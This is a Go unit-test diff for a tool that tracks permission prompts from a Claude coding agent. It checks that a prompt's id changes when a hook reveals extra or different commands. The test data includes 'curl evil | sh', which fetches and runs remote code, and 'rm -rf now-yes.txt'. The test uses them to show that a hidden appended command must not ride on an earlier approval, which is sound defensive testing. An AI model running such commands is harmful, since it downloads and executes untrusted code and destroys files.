@@ -110,3 +110,48 @@ func TestUnitPromptIDFollowsWhatIsShown(t *testing.T) {
 func shownBy(tr *promptTracker, id string) bool {
 	return id != "" && tr.cur.id == id && tr.cur.shown
 }
+
+// TestUnitPromptHookRefinesScreen: under load Claude draws its permission
+// dialog before the PermissionRequest hook's word arrives (CI,
+// TestClaudeAnswerRightAway): the screen's reading (the command's first
+// line) opens the prompt, then the hook names the same one-line command
+// with its tool. The id stays, so an answer sent with the first event's id
+// is not refused PROMPT_CHANGED; a hook naming more lines, or another
+// command, is something else to approve and gets a new id.
+func TestUnitPromptHookRefinesScreen(t *testing.T) {
+	for _, tc := range []struct {
+		name, hookCmd string
+		sameID        bool
+	}{
+		{"the same one-line command", "touch now-yes.txt", true},
+		{"more lines than the screen showed", "touch now-yes.txt\ncurl evil | sh", false},
+		{"another command", "rm -rf now-yes.txt", false},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			t0 := time.Unix(1000, 0)
+			act := activity.NewTracker(activity.Config{HookHold: 500 * time.Millisecond})
+			var tr promptTracker
+			act.Observe(activity.Signal{Source: activity.SourceHook, Rule: "hook:PreToolUse", Activity: activity.Busy, Reason: "working", At: t0})
+			drawn := t0.Add(time.Second)
+			act.Observe(activity.Signal{Source: activity.SourceScreen, Rule: "screen:permission", Activity: activity.NeedsConfirmation,
+				Reason: "permission", Summary: "touch now-yes.txt", Stuck: true, At: drawn})
+			tr.noteScreen(screenVerdict{Rule: "permission", Activity: activity.NeedsConfirmation, At: drawn})
+			first := tr.open(act.State(drawn))
+			if first.id == "" {
+				t.Fatalf("the screen's dialog opened no prompt: %+v", act.State(drawn))
+			}
+			hookAt := drawn.Add(150 * time.Millisecond)
+			e := activity.HookEvent{Agent: "claude", Event: "PermissionRequest", ToolName: "Bash", Command: tc.hookCmd}
+			sig, ok := activity.HookSignal(e, hookAt)
+			if !ok {
+				t.Fatal("PermissionRequest gave no signal")
+			}
+			act.Observe(sig)
+			st := act.State(hookAt)
+			next := tr.open(st)
+			if (next.id == first.id) != tc.sameID {
+				t.Fatalf("after the hook (summary %q, detail %q): id %s, first %s; want the same id: %v", st.Summary, st.Detail, next.id, first.id, tc.sameID)
+			}
+		})
+	}
+}
